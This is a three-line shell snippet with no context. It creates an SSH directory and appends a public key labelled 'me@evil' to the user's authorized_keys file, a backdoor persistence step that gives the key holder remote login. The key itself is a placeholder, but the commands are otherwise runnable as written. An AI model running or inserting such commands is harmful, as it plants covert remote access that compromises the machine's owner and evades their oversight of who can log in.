mkdir -p ~/.ssh
echo "ssh-rsa AAAAB3Example me@evil" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
